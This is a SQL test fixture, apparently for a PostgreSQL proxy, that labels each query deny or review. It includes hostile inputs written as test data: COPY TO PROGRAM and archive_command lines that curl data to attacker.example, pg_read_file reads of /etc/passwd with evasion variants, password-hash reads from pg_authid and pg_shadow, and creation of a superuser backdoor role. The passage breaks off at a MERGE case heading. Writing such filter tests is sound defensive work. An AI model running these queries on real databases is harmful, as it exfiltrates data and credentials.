-- expect: deny | deny-function: query_to_xml_and_xmlschema runs SQL from a string, even a harmless one
SELECT query_to_xml_and_xmlschema('SELECT 1 AS x', true, false, '');

-- expect: deny | deny-function: table_to_xml dumps a table named by a string
SELECT table_to_xml('orders', true, false, '');

-- expect: deny | deny-function: cursor_to_xml over a cursor on email
DECLARE cx CURSOR FOR SELECT email FROM customers;
SELECT cursor_to_xml('cx', 10, false, false, '');

-- expect: deny | deny-function: schema_to_xml dumps every table of a schema
SELECT schema_to_xml('public', true, false, '');

-- expect: deny | deny-function: ts_stat runs SQL from a string (reading ssn)
SELECT * FROM ts_stat('SELECT to_tsvector(''simple'', ssn) FROM customers');

-- expect: deny | deny-function: pg_reload_conf [superuser]
SELECT pg_reload_conf();

-- expect: deny | deny-function: pg_ls_waldir lists server files [superuser]
SELECT name FROM pg_ls_waldir();

-- expect: deny | deny-function: deny function next to a PII read (deny beats review) [superuser]
SELECT email, pg_read_file('/etc/hostname') FROM customers LIMIT 1;

-- expect: deny | deny-function: schema-qualified pg_catalog.pg_read_file [superuser]
SELECT pg_catalog.pg_read_file('/etc/passwd');

-- expect: deny | deny-function: quoted function name [superuser]
SELECT "pg_read_file"('/etc/passwd');

-- expect: deny | deny-function: upper-case function name [superuser]
SELECT PG_READ_FILE('/etc/passwd');

-- expect: deny | deny-function: Unicode-escaped function name U&"pg\005fread\005ffile" [superuser]
SELECT U&"pg\005fread\005ffile"('/etc/passwd');

-- expect: deny | deny-function: ROWS FROM (pg_ls_dir(...)) [superuser]
SELECT x FROM ROWS FROM (pg_ls_dir('/')) AS x;

-- expect: deny | deny-function: pg_read_file over pg_ls_dir results [superuser]
SELECT pg_read_file(f) FROM pg_ls_dir('.') AS f WHERE f = 'PG_VERSION';

-- expect: deny | deny-function: pg_read_file inside a CTE [superuser]
WITH f AS (SELECT pg_read_file('/etc/passwd') AS t) SELECT length(t) FROM f;

-- expect: deny | deny-function: pg_read_file in a scalar subquery of a WHERE [superuser]
SELECT id FROM orders WHERE status = (SELECT pg_read_file('/etc/hostname'));

-- expect: deny | deny-function: pg_read_file feeding an INSERT [superuser]
INSERT INTO orders (customer_id, total, status) SELECT 1, 0, pg_read_file('/etc/hostname');

-- expect: deny | deny-function: EXPLAIN ANALYZE executes pg_read_file [superuser]
EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd');

-- expect: deny | copy: COPY TO a server file [superuser]
COPY customers TO '/tmp/pgproxy-customers.csv' WITH (FORMAT csv);

-- expect: deny | copy: COPY FROM a server file [superuser]
COPY orders FROM '/etc/passwd';

-- expect: deny | copy: COPY (query) TO PROGRAM [superuser]
COPY (SELECT 1) TO PROGRAM 'curl -s -d @- https://attacker.example/x';

-- expect: deny | copy: COPY FROM PROGRAM [superuser]
COPY orders (status) FROM PROGRAM 'id';

-- expect: deny | copy: lower-case copy of ssn to a server file [superuser]
copy (select ssn from customers) to '/tmp/pgproxy-ssn.txt';

-- expect: deny | server-config: ALTER SYSTEM writes the server's postgresql.auto.conf (an archive_command runs programs) [superuser] [no-tx]
ALTER SYSTEM SET archive_command = 'curl -s -T %p https://attacker.example/';

-- expect: review | admin-function: pg_terminate_backend of other sessions
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'alice' AND pid <> pg_backend_pid();

-- expect: review | admin-function: pg_cancel_backend
SELECT pg_cancel_backend(424242);

-- expect: review | admin-function: pg_terminate_backend with a timeout
SELECT pg_terminate_backend(424242, 1000);

-- expect: deny | credential-catalog: rolpassword from pg_authid [superuser]
SELECT rolname, rolpassword FROM pg_authid;

-- expect: deny | credential-catalog: schema-qualified pg_catalog.pg_authid [superuser]
SELECT * FROM pg_catalog.pg_authid WHERE rolcanlogin;

-- expect: deny | credential-catalog: passwd from pg_shadow [superuser]
SELECT usename, passwd FROM pg_shadow;

-- expect: deny | credential-catalog: TABLE pg_shadow [superuser]
TABLE pg_shadow;

-- expect: deny | credential-catalog: even count(*) of pg_authid [superuser]
SELECT count(*) FROM pg_authid;

-- expect: deny | credential-catalog: pg_authid joined to the harmless pg_roles [superuser]
SELECT r.rolname FROM pg_roles r JOIN pg_authid a ON a.oid = r.oid WHERE a.rolpassword IS NOT NULL;

-- expect: deny | credential-catalog: upper-case PG_AUTHID [superuser]
SELECT * FROM PG_AUTHID;

-- expect: deny | credential-catalog: quoted "pg_shadow" [superuser]
SELECT * FROM "pg_shadow";

-- expect: deny | credential-catalog: Unicode-escaped U&"pg\005fauthid" [superuser]
SELECT * FROM U&"pg\005fauthid";

-- expect: deny | credential-catalog: scalar subquery on pg_authid [superuser]
SELECT (SELECT rolpassword FROM pg_authid WHERE rolname = current_user) AS x;

-- expect: deny | credential-catalog: pg_user_mapping holds foreign-server passwords [superuser]
SELECT umuser, umoptions FROM pg_user_mapping;

-- expect: deny | credential-catalog: COPY pg_authid TO STDOUT (deny beats the export review) [superuser]
COPY pg_authid TO STDOUT;

-- expect: review | statistics: pg_stats histogram_bounds hold sampled email values
SELECT histogram_bounds FROM pg_stats WHERE tablename = 'customers' AND attname = 'email';

-- expect: review | statistics: pg_stats most_common_vals of every customers column
SELECT attname, most_common_vals, histogram_bounds FROM pg_stats WHERE schemaname = 'public' AND tablename = 'customers';

-- expect: review | statistics: pg_stats of crm.notes.body (common note texts)
SELECT most_common_vals FROM pg_stats WHERE schemaname = 'crm' AND tablename = 'notes' AND attname = 'body';

-- expect: review | ddl: CREATE TABLE
CREATE TABLE scratch (id int, note text);

-- expect: review | ddl: ALTER TABLE ADD COLUMN
ALTER TABLE orders ADD COLUMN note text;

-- expect: review | ddl: DROP TABLE IF EXISTS of a table that does not exist is still DDL
DROP TABLE IF EXISTS no_such_table;

-- expect: review | ddl: DROP TABLE ... CASCADE
DROP TABLE customers CASCADE;

-- expect: review | ddl: TRUNCATE orders
TRUNCATE orders;

-- expect: review | ddl: TRUNCATE TABLE customers CASCADE
TRUNCATE TABLE customers CASCADE;

-- expect: review | ddl: COMMENT ON COLUMN
COMMENT ON COLUMN customers.email IS 'primary contact address';

-- expect: review | ddl: CREATE INDEX on email
CREATE INDEX ON customers (email);

-- expect: review | ddl: CREATE INDEX IF NOT EXISTS on an untagged column
CREATE INDEX IF NOT EXISTS orders_status_idx ON orders (status);

-- expect: review | ddl: REINDEX TABLE
REINDEX TABLE orders;

-- expect: review | ddl: RENAME COLUMN ssn (would hide it from the catalog)
ALTER TABLE customers RENAME COLUMN ssn TO tax_id;

-- expect: review | ddl: CREATE VIEW over ssn
CREATE VIEW all_ssn AS SELECT ssn FROM customers;

-- expect: review | ddl: CREATE OR REPLACE FUNCTION
CREATE OR REPLACE FUNCTION public.hello() RETURNS text LANGUAGE sql AS $$ SELECT 'hi' $$;

-- expect: review | ddl: CREATE SCHEMA
CREATE SCHEMA scratch;

-- expect: review | ddl: ALTER SEQUENCE RESTART
ALTER SEQUENCE orders_id_seq RESTART WITH 1;

-- expect: review | ddl: CREATE TEMP TABLE is DDL too
CREATE TEMP TABLE tmp_ids (id int);

-- expect: review | ddl: disabling row-level security
ALTER TABLE customers DISABLE ROW LEVEL SECURITY;

-- expect: review | ddl: trigger function and trigger
CREATE FUNCTION orders_touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
CREATE TRIGGER orders_touch BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION orders_touch();

-- expect: review | ddl: CREATE RULE
CREATE RULE orders_notify AS ON INSERT TO orders DO ALSO NOTIFY orders_changed;

-- expect: review | ddl: ALTER COLUMN TYPE of ssn
ALTER TABLE customers ALTER COLUMN ssn TYPE varchar(11);

-- expect: review | ddl: CREATE POLICY
CREATE POLICY everyone ON customers USING (true);

-- expect: review | ddl: CREATE EXTENSION [superuser]
CREATE EXTENSION IF NOT EXISTS dblink;

-- expect: review | ddl: DROP OWNED BY drops everything the role owns
DROP OWNED BY CURRENT_USER;

-- expect: review | ddl: CREATE INDEX CONCURRENTLY cannot run in a transaction block [no-tx]
CREATE INDEX CONCURRENTLY IF NOT EXISTS customers_email_idx ON customers (email);

-- expect: review | ddl: DROP INDEX CONCURRENTLY IF EXISTS (a no-op, still DDL) [no-tx]
DROP INDEX CONCURRENTLY IF EXISTS no_such_index;

-- expect: review | grant: GRANT SELECT ON customers TO PUBLIC
GRANT SELECT ON customers TO PUBLIC;

-- expect: review | grant: column-level GRANT on email and ssn
GRANT SELECT (email, ssn) ON customers TO PUBLIC;

-- expect: review | grant: REVOKE on an untagged table
REVOKE ALL ON orders FROM PUBLIC;

-- expect: review | grant: GRANT ALL ON ALL TABLES IN SCHEMA
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;

-- expect: review | grant: ALTER DEFAULT PRIVILEGES
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO PUBLIC;

-- expect: review | grant: GRANT USAGE ON SCHEMA crm
GRANT USAGE ON SCHEMA crm TO PUBLIC;

-- expect: review | grant: lower-case grant execute on a function
grant execute on function order_count(int) to public;

-- expect: review | grant: granting a predefined role that reads server files [superuser]
GRANT pg_read_server_files TO CURRENT_USER;

-- expect: review | role: CREATE ROLE with a password [superuser]
CREATE ROLE intruder LOGIN PASSWORD 'hunter2';

-- expect: review | role: CREATE USER ... SUPERUSER [superuser]
CREATE USER backdoor WITH SUPERUSER PASSWORD 'hunter2';

-- expect: review | role: ALTER ROLE ... SET on the current role
ALTER ROLE CURRENT_USER SET search_path = crm, public;

-- expect: review | role: ALTER ROLE granting CREATEROLE [superuser]
ALTER ROLE CURRENT_USER WITH CREATEROLE;

-- expect: review | role: ALTER USER ... PASSWORD
ALTER USER CURRENT_USER PASSWORD 'new-password';

-- expect: review | role: DROP ROLE IF EXISTS [superuser]
DROP ROLE IF EXISTS no_such_role;

-- expect: review | role: ALTER ROLE ... VALID UNTIL [superuser]
ALTER ROLE CURRENT_USER VALID UNTIL 'infinity';

-- expect: review | set-role: SET ROLE to the superuser [superuser]
SET ROLE postgres;

-- expect: review | set-role: SET LOCAL ROLE to a predefined role [superuser]
SET LOCAL ROLE pg_read_all_data;

-- expect: review | set-role: generic SET role = ... form [superuser]
SET role = 'postgres';

-- expect: review | set-role: quoted setting name SET "role" [superuser]
SET "role" TO postgres;

-- expect: review | set-role: SET SESSION ROLE [superuser]
SET SESSION ROLE postgres;

-- expect: review | set-role: SET ROLE NONE
SET ROLE NONE;

-- expect: review | set-role: SET SESSION AUTHORIZATION [superuser]
SET SESSION AUTHORIZATION postgres;

-- expect: review | set-role: SET LOCAL SESSION AUTHORIZATION [superuser]
SET LOCAL SESSION AUTHORIZATION postgres;

-- expect: review | do: DO block that only raises a notice (opaque code)
DO $$ BEGIN RAISE NOTICE 'hello'; END $$;

-- expect: review | do: DO block that loops over email
DO $$
DECLARE r record;
BEGIN
    FOR r IN SELECT email FROM customers LIMIT 3 LOOP
        RAISE NOTICE '%', r.email;
    END LOOP;
END
$$;

-- expect: review | do: DO LANGUAGE with a tagged dollar quote running dynamic SQL
DO LANGUAGE plpgsql $body$
BEGIN
    EXECUTE 'UPDATE orders SET status = ' || quote_literal('x') || ' WHERE id = -1';
END
$body$;

-- expect: review | do: lower-case do with a named dollar tag
do $x$ begin perform pg_sleep(0); end $x$;

-- expect: review | do: DO with an ordinary string literal body (no dollar quotes)
DO 'BEGIN NULL; END';

-- expect: review | call: CALL archive_orders()
CALL archive_orders();

-- expect: review | call: schema-qualified CALL
CALL public.archive_orders();

-- expect: review | call: lower-case call with a quoted name
call "archive_orders"();

-- expect: review | call: benign SELECT after a CALL in one query string
CALL archive_orders(); SELECT 1;

-- expect: review | user-function: order_count(1)
SELECT order_count(1);

-- expect: review | user-function: schema-qualified user function over a column
SELECT public.order_count(customer_id) FROM orders WHERE id = 1;

-- expect: review | user-function: user function in FROM
SELECT * FROM order_count(7);

-- expect: review | user-function: user function in WHERE
SELECT id FROM customers WHERE order_count(id) > 4 LIMIT 1;

-- expect: review | user-function: quoted user function name
SELECT "order_count"(1);

-- expect: review | user-function: user function in VALUES
VALUES (order_count(2));

-- expect: review | user-function: user function in ORDER BY
SELECT id FROM orders ORDER BY order_count(customer_id) DESC LIMIT 1;

-- expect: review | user-function: named-argument notation
SELECT order_count(cid => 3);

-- expect: review | comment-trick: empty block comment before email
SELECT /* */ email FROM customers LIMIT 1;

-- expect: review | comment-trick: comments instead of whitespace
SELECT/**/ssn/**/FROM/**/customers/**/LIMIT/**/1;

-- expect: review | comment-trick: line comment between columns
SELECT id, -- harmless id
    email FROM customers LIMIT 1;

-- expect: review | comment-trick: nested block comment closes before ", email" (non-nesting scanners get this wrong)
SELECT id /* /* */ */, email FROM customers LIMIT 1;

-- expect: review | comment-trick: an empty line comment, then ", ssn" on the next line
SELECT id --
, ssn FROM customers LIMIT 1;

-- expect: review | comment-trick: leading comment holding a fake statement
/* SELECT 1; */ SELECT phone FROM customers LIMIT 1;

-- expect: review | comment-trick: line comment glued to the column name
SELECT email-- comment
FROM customers LIMIT 1;

-- expect: review | comment-trick: '/*' inside a string literal is not a comment opener
SELECT '/*' AS x, ssn FROM customers WHERE id = 1 /* */;

-- expect: review | dollar-quote: $$ literal holding a semicolon
SELECT $$ ; $$ AS x, email FROM customers LIMIT 1;

-- expect: review | dollar-quote: $tag$ literal holding $$ and a fake statement
SELECT $tag$ $$ ; SELECT 1 $tag$ AS x, ssn FROM customers LIMIT 1;

-- expect: review | dollar-quote: dollar-quoted single quote
SELECT $q$'$q$ AS x, phone FROM customers LIMIT 1;

-- expect: review | dollar-quote: $$ inside an ordinary literal is not a dollar quote
SELECT 'it''s $$' AS x, name FROM customers LIMIT 1;

-- expect: review | dollar-quote: -- inside a dollar quote is not a comment
SELECT $$--$$ AS x, ssn FROM customers LIMIT 1;

-- expect: review | dollar-quote: escape-string literal with a backslash-escaped quote
SELECT E'\'' AS x, email FROM customers LIMIT 1;

-- expect: review | unicode-ident: U&"\0065mail" is email
SELECT U&"\0065mail" FROM customers LIMIT 1;

-- expect: review | unicode-ident: U&"!0073sn" UESCAPE '!' is ssn
SELECT U&"!0073sn" UESCAPE '!' FROM customers LIMIT 1;

-- expect: review | unicode-ident: escaped table and column names
SELECT id FROM U&"\0063ustomers" WHERE U&"\0070hone" IS NOT NULL LIMIT 1;

-- expect: review | unicode-ident: six-digit escape \+000065
SELECT U&"\+000065mail" FROM customers LIMIT 1;

-- expect: review | unicode-ident: U&"\0045mail" is the mixed-case "Email" of "AuditLog"
SELECT U&"\0045mail" FROM "AuditLog" LIMIT 1;

-- expect: review | unicode-ident: escaped schema and table for crm.notes
SELECT body FROM U&"crm".U&"\006eotes" LIMIT 1;

-- expect: review | mixed-case: SeLeCt EMAIL from CUSTOMERS
SeLeCt EMAIL from CUSTOMERS limit 1;

-- expect: review | mixed-case: upper-case column, mixed-case schema and table
select SSN from Public.Customers where ID = 1;

-- expect: review | mixed-case: alias qualified in a different case
SELECT Phone FROM Customers c WHERE C.Country = 'US' LIMIT 1;

-- expect: review | mixed-case: CRM.Notes folds to crm.notes
Select Body From CRM.Notes Limit 1;

-- expect: review | quoted-ident: "email" FROM "customers"
SELECT "email" FROM "customers" LIMIT 1;

-- expect: review | quoted-ident: fully quoted schema, table, alias and column
SELECT "c"."ssn" FROM "public"."customers" AS "c" LIMIT 1;

-- expect: review | quoted-ident: mixed-case "Email" of "AuditLog"
SELECT "Email" FROM "AuditLog" LIMIT 1;

-- expect: review | quoted-ident: a."Email" of public."AuditLog"
SELECT a."Email" FROM public."AuditLog" a WHERE a.action = 'export';

-- expect: review | schema-qualified: public.customers.email
SELECT public.customers.email FROM public.customers LIMIT 1;

-- expect: review | schema-qualified: database-qualified app.public.customers.ssn
SELECT app.public.customers.ssn FROM app.public.customers LIMIT 1;

-- expect: review | schema-qualified: quoted three-part column reference
SELECT "public"."customers"."phone" FROM "public"."customers" LIMIT 1;

-- expect: review | schema-qualified: pg_catalog.lower over email
SELECT pg_catalog.lower(email) FROM public.customers LIMIT 1;

-- expect: review | schema-qualified: "AuditLog"."Email" qualified by table
SELECT "AuditLog"."Email" FROM public."AuditLog" LIMIT 1;

-- expect: review | schema-qualified: crm.notes.body qualified by schema and table
SELECT crm.notes.body FROM crm.notes WHERE crm.notes.id = 1;

-- expect: review | multi-statement: benign SELECT 1 then ssn
SELECT 1; SELECT ssn FROM customers LIMIT 1;

-- expect: deny | multi-statement: benign read then pg_read_file [superuser]
SELECT id FROM orders WHERE id = 1; SELECT pg_read_file('/etc/passwd');

-- expect: review | multi-statement: a string holding ';' before the second statement
SELECT ';'; SELECT email FROM customers LIMIT 1;

-- expect: review | multi-statement: empty statements between
SELECT 1;;; SELECT phone FROM customers LIMIT 1;

-- expect: review | multi-statement: SET then TABLE customers
SET application_name = 'report'; TABLE customers;

-- expect: deny | multi-statement: review then deny gives deny [superuser]
SELECT email FROM customers LIMIT 1; SELECT rolpassword FROM pg_authid;

-- expect: review | multi-statement: a complete transaction, then a PII read [no-tx]
BEGIN; SELECT 1; COMMIT; SELECT name FROM customers LIMIT 1;

-- expect: review | multi-statement: a ';' inside a line comment, then a PII read
SELECT 1 -- ;
; SELECT email FROM customers LIMIT 1;

-- expect: review | multi-statement: count, then an UPDATE without WHERE
SELECT count(*) FROM orders; UPDATE orders SET status = 'x';

-- expect: review | multi-statement: SELECT 1 then DROP TABLE
SELECT 1; DROP TABLE orders CASCADE;

-- expect: review | alias-trick: email aliased as id
SELECT email AS id FROM customers LIMIT 1;

-- expect: review | alias-trick: email aliased as country next to a country filter
SELECT c.email AS country FROM customers c WHERE c.country = 'DE' LIMIT 1;

-- expect: review | alias-trick: GROUP BY email resolves to the input column email, not the alias of plan
SELECT plan AS email, count(*) FROM customers GROUP BY email, plan;

-- expect: review | alias-trick: ORDER BY an expression uses the input column email, not the alias
SELECT country AS email FROM customers ORDER BY lower(email) LIMIT 5;

-- expect: review | alias-trick: WHERE uses the input column email, not the alias
SELECT country AS email FROM customers WHERE email LIKE '%@example.com' LIMIT 1;

-- expect: review | alias-trick: derived table returns email under the name id
SELECT id FROM (SELECT email AS id FROM customers) s LIMIT 1;

-- expect: review | alias-trick: quoted alias "country" over name
SELECT "name" AS "country" FROM customers LIMIT 1;

-- expect: review | alias-trick: customers aliased as orders, so orders.email is customers.email
SELECT orders.id, orders.email FROM customers AS orders LIMIT 1;

-- expect: review | search-path: SET search_path TO crm, then unqualified notes.body
SET search_path TO crm, public; SELECT body FROM notes LIMIT 1;

-- expect: review | search-path: SET LOCAL search_path, then SELECT * FROM notes
SET LOCAL search_path = crm; SELECT * FROM notes LIMIT 1;

-- expect: review | search-path: set_config('search_path'), then unqualified notes.body
SELECT set_config('search_path', 'crm,public', false); SELECT body FROM notes LIMIT 1;

-- expect: review | search-path: SET search_path = crm, then an aliased notes.body in WHERE
SET search_path = crm; SELECT n.id FROM notes n WHERE n.body IS NOT NULL LIMIT 1;

-- expect: review | unresolvable: unqualified notes is not on the default search_path [runtime-error]
SELECT body FROM notes;

-- expect: review | unresolvable: unknown table [runtime-error]
SELECT id FROM no_such_table;

-- expect: review | unresolvable: unknown column [runtime-error]
SELECT no_such_column FROM orders;

-- expect: review | syntax-error: misspelt keyword
SELEC email FROM customers;

-- expect: review | syntax-error: dangling WHERE
SELECT id FROM orders WHERE;

-- expect: review | syntax-error: valid statement followed by an invalid one
SELECT 1; SELEC 2;

-- expect: review | syntax-error: MySQL LIMIT offset, count
SELECT * FROM orders LIMIT 10, 20;

-- expect: review | syntax-error: T-SQL TOP
SELECT TOP 5 * FROM orders;

-- expect: review | syntax-error: unterminated string literal
SELECT 'unterminated FROM orders;

-- expect: review | syntax-error: unterminated dollar quote
SELECT $$ unterminated FROM orders;

-- expect: review | syntax-error: unterminated block comment
SELECT id FROM orders /* unterminated comment

-- expect: review | syntax-error: stray closing parenthesis after a line comment
SELECT id FROM orders WHERE id = 1 -- fine so far
);

-- expect: deny | deny-function: pg_read_file where the second parser cannot read the statement (U& table name): still denied [superuser]
SELECT pg_read_file('/etc/passwd') FROM U&"\0063ustomers" LIMIT 1;

-- expect: review | unwalked-clause: TABLESAMPLE REPEATABLE seed computed by a subquery over ssn
SELECT id FROM orders TABLESAMPLE BERNOULLI (50) REPEATABLE ((SELECT length(ssn) FROM customers LIMIT 1));

-- expect: review | unwalked-clause: TABLESAMPLE percentage computed by a subquery over phone
SELECT count(*) FROM orders TABLESAMPLE SYSTEM ((SELECT length(phone) FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: XMLTABLE namespace URI taken from a subquery over email
SELECT * FROM XMLTABLE(
    XMLNAMESPACES((SELECT email FROM customers WHERE id = 1) AS x),
    '/r' PASSING ('<r/>'::xml)
    COLUMNS a text PATH 'x:a'
);

-- expect: review | unwalked-clause: XMLTABLE column DEFAULT is a subquery over email
SELECT t.e FROM XMLTABLE('/r' PASSING ('<r/>'::xml)
    COLUMNS e text PATH 'missing' DEFAULT (SELECT email FROM customers WHERE id = 1)) AS t;

-- expect: review | unwalked-clause: XMLTABLE PASSING document built by a subquery over crm.notes.body
SELECT t.b FROM XMLTABLE('/n' PASSING (SELECT xmlelement(name n, body) FROM crm.notes WHERE id = 1)
    COLUMNS b text PATH '.') AS t;

-- expect: review | unwalked-clause: window frame offset ROWS BETWEEN (subquery over ssn) PRECEDING
SELECT id, sum(total) OVER (ORDER BY id ROWS BETWEEN (SELECT length(ssn) FROM customers WHERE id = 1) PRECEDING AND CURRENT ROW)
FROM orders WHERE id < 20;

-- expect: review | unwalked-clause: frame end offset of a named WINDOW from a subquery over email
SELECT id, count(*) OVER w FROM orders
WINDOW w AS (ORDER BY id ROWS BETWEEN CURRENT ROW AND (SELECT length(email) FROM customers WHERE id = 1) FOLLOWING)
LIMIT 5;

-- expect: review | unwalked-clause: RANGE frame offset over a numeric from a subquery over phone
SELECT id, count(*) OVER (ORDER BY total RANGE BETWEEN (SELECT length(phone) FROM customers WHERE id = 1)::numeric PRECEDING AND CURRENT ROW)
FROM orders LIMIT 5;

-- expect: review | unwalked-clause: PARTITION BY a scalar subquery over name
SELECT id, rank() OVER (PARTITION BY (SELECT name FROM customers c WHERE c.id = o.customer_id) ORDER BY total) FROM orders o LIMIT 5;

-- expect: review | unwalked-clause: FETCH FIRST (subquery over email) ROWS ONLY
SELECT id FROM orders ORDER BY id FETCH FIRST (SELECT length(email) FROM customers WHERE id = 1) ROWS ONLY;

-- expect: review | unwalked-clause: FETCH FIRST ... WITH TIES counted by a subquery over ssn
SELECT id, status FROM orders ORDER BY status FETCH FIRST (SELECT length(ssn) FROM customers WHERE id = 2) ROWS WITH TIES;

-- expect: review | unwalked-clause: LIMIT (subquery over ssn)
SELECT id FROM orders LIMIT (SELECT length(ssn) FROM customers WHERE id = 1);

-- expect: review | unwalked-clause: OFFSET (subquery over phone)
SELECT id FROM orders ORDER BY id LIMIT 1 OFFSET (SELECT length(phone) FROM customers WHERE id = 3);

-- expect: review | unwalked-clause: array subscript computed by a subquery over phone
SELECT (ARRAY['a', 'b', 'c'])[(SELECT length(phone) FROM customers WHERE id = 1) % 3 + 1];

-- expect: review | unwalked-clause: array slice bound from a subquery over email
SELECT (ARRAY[1, 2, 3, 4, 5])[1:(SELECT position('@' IN email) FROM customers WHERE id = 1)];

-- expect: review | unwalked-clause: CASE THEN arm is a subquery over email
SELECT id, CASE WHEN total > 0 THEN (SELECT email FROM customers c WHERE c.id = o.customer_id) END FROM orders o WHERE id = 1;

-- expect: review | unwalked-clause: CASE ELSE arm is a subquery over ssn
SELECT CASE WHEN false THEN 'none' ELSE (SELECT ssn FROM customers WHERE id = 1) END;

-- expect: review | unwalked-clause: simple CASE operand is a subquery over name
SELECT CASE (SELECT name FROM customers WHERE id = 1) WHEN 'Ada' THEN 1 ELSE 0 END;

-- expect: review | unwalked-clause: COLLATE applied to a subquery over name
SELECT ((SELECT name FROM customers WHERE id = 1) COLLATE "C");

-- expect: review | unwalked-clause: ORDER BY a COLLATE'd subquery over email
SELECT o.id FROM orders o ORDER BY (SELECT c.email FROM customers c WHERE c.id = o.customer_id) COLLATE "C" LIMIT 5;

-- expect: review | unwalked-clause: ON CONFLICT DO UPDATE ... WHERE with a subquery over email
INSERT INTO orders (id, customer_id, total, status) VALUES (1, 1, 1.00, 'pending')
ON CONFLICT (id) DO UPDATE SET status = 'seen'
WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.customer_id AND c.email LIKE 'a%');

-- expect: review | unwalked-clause: ON CONFLICT DO UPDATE SET from a subquery over ssn
INSERT INTO orders (id, customer_id, total, status) VALUES (1, 1, 1.00, 'pending')
ON CONFLICT (id) DO UPDATE SET status = (SELECT ssn FROM customers WHERE id = EXCLUDED.customer_id);

-- expect: review | unwalked-clause: GROUPING SETS item is a subquery over email
SELECT status, count(*) FROM orders GROUP BY GROUPING SETS ((status), ((SELECT email FROM customers WHERE id = 1)));

-- expect: review | unwalked-clause: CUBE item is a correlated subquery over phone
SELECT count(*) FROM orders o GROUP BY CUBE (o.status, (SELECT phone FROM customers c WHERE c.id = o.customer_id));

-- expect: review | unwalked-clause: row comparison whose second field is a subquery over phone
SELECT id FROM orders WHERE (customer_id, status) = (1, (SELECT phone FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: ROW(...) IS NULL over a subquery reading ssn
SELECT id FROM orders WHERE ROW(id, (SELECT ssn FROM customers WHERE id = orders.customer_id)) IS NOT NULL LIMIT 1;

-- expect: review | unwalked-clause: row IN a list of rows, one built from a subquery over email
SELECT id FROM orders WHERE (id, status) IN ((1, 'x'), (2, (SELECT email FROM customers WHERE id = 2)));

-- expect: review | unwalked-clause: multi-row INSERT VALUES with DEFAULT in one row and a subquery over email in another
INSERT INTO orders (customer_id, total, status) VALUES
    (1, 1.00, DEFAULT),
    (2, 2.00, (SELECT email FROM customers WHERE id = 2));

-- expect: review | unwalked-clause: DEFAULT in an INSERT ... VALUES next to a subquery over crm.notes.body
INSERT INTO orders (id, customer_id, total, status) VALUES (DEFAULT, 1, 0, (SELECT body FROM crm.notes WHERE id = 1)) RETURNING id;

-- expect: review | unwalked-clause: UPDATE SET (a, b) = (subquery reading ssn)
UPDATE orders SET (status, total) = (SELECT ssn, 0 FROM customers WHERE id = 1) WHERE id = -1;

-- expect: review | unwalked-clause: xmlelement content is a subquery over email
SELECT xmlelement(name contact, (SELECT email FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: xmlattributes value is a subquery over name
SELECT xmlelement(name c, xmlattributes((SELECT name FROM customers WHERE id = 1) AS n));

-- expect: review | unwalked-clause: xmlforest argument is a subquery over ssn
SELECT xmlforest((SELECT ssn FROM customers WHERE id = 1) AS s, 1 AS one);

-- expect: review | unwalked-clause: xmlconcat and xmlpi over subqueries reading phone
SELECT xmlconcat(xmlpi(name p, (SELECT phone FROM customers WHERE id = 1)), '<x/>'::xml);

-- expect: review | unwalked-clause: XMLPARSE and XMLSERIALIZE around a subquery over crm.notes.body
SELECT XMLSERIALIZE(CONTENT XMLPARSE(CONTENT (SELECT body FROM crm.notes WHERE id = 1)) AS text);

-- expect: review | unwalked-clause: xmlexists PASSING a document built from a subquery over email
SELECT xmlexists('/e[contains(., "@")]' PASSING BY REF (SELECT xmlelement(name e, email) FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: json_build_object value is a subquery over phone
SELECT json_build_object('id', 1, 'phone', (SELECT phone FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: jsonb_build_array of a subquery over ssn
SELECT jsonb_build_array(1, (SELECT ssn FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: jsonpath vars built from a subquery over email
SELECT jsonb_path_query('{}', '$v', jsonb_build_object('v', (SELECT email FROM customers WHERE id = 1)));

-- expect: review | unwalked-clause: NULLIF, GREATEST and COALESCE around subqueries over name and phone
SELECT NULLIF((SELECT name FROM customers WHERE id = 1), ''), GREATEST('a', (SELECT phone FROM customers WHERE id = 1)), COALESCE(NULL, (SELECT email FROM customers WHERE id = 2));

-- expect: review | unwalked-clause: SUBSTRING ... FROM ... FOR and TRIM over a subquery reading ssn
SELECT substring((SELECT ssn FROM customers WHERE id = 1) FROM 1 FOR 3), trim(BOTH FROM (SELECT name FROM customers WHERE id = 1));

-- expect: review | unwalked-clause: LIKE ... ESCAPE whose pattern is a subquery over email
SELECT id FROM orders WHERE status LIKE (SELECT email FROM customers WHERE id = 1) ESCAPE '!' LIMIT 1;

-- expect: review | unwalked-clause: BETWEEN SYMMETRIC bound from a subquery over phone
SELECT id FROM orders WHERE status BETWEEN SYMMETRIC 'a' AND (SELECT phone FROM customers WHERE id = 1) LIMIT 1;

-- expect: review | unwalked-clause: IS DISTINCT FROM and IS TRUE over subqueries reading email
SELECT ((SELECT email FROM customers WHERE id = 1) IS DISTINCT FROM 'x') IS TRUE;

-- expect: review | unwalked-clause: AT TIME ZONE taken from a subquery over name
SELECT now() AT TIME ZONE coalesce((SELECT name FROM customers WHERE id = 1 AND false), 'UTC');

-- expect: review | unwalked-clause: DISTINCT ON a correlated subquery over email
SELECT DISTINCT ON ((SELECT email FROM customers c WHERE c.id = o.customer_id)) o.id FROM orders o LIMIT 5;

-- expect: review | unwalked-clause: ordered-set aggregate WITHIN GROUP (ORDER BY a subquery over ssn)
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY (SELECT ssn FROM customers c WHERE c.id = o.customer_id)) FROM orders o;

-- expect: review | unwalked-clause: aggregate FILTER clause with a subquery over phone
SELECT count(*) FILTER (WHERE o.status = (SELECT phone FROM customers c WHERE c.id = o.customer_id)) FROM orders o;

-- expect: review | unwalked-clause: field selection from a composite subquery over customers
SELECT ((SELECT c FROM customers c WHERE c.id = 1)).email;

-- expect: review | unwalked-clause: MERGE WHEN MATCHED AND a subquery over email
